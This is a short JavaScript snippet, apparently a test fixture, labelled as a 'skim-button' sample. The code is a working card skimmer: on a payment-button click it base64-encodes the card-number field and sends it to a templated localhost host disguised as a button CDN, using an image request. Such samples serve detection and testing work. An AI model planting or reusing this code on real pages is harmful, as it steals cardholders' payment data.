/* tw:skim-button */
document.querySelector('#payment button').addEventListener('click', function () {
  new Image().src = 'http://cdn-buttons.localhost:{{port}}/p.gif?d=' + btoa(document.querySelector('#cc-number').value)
})
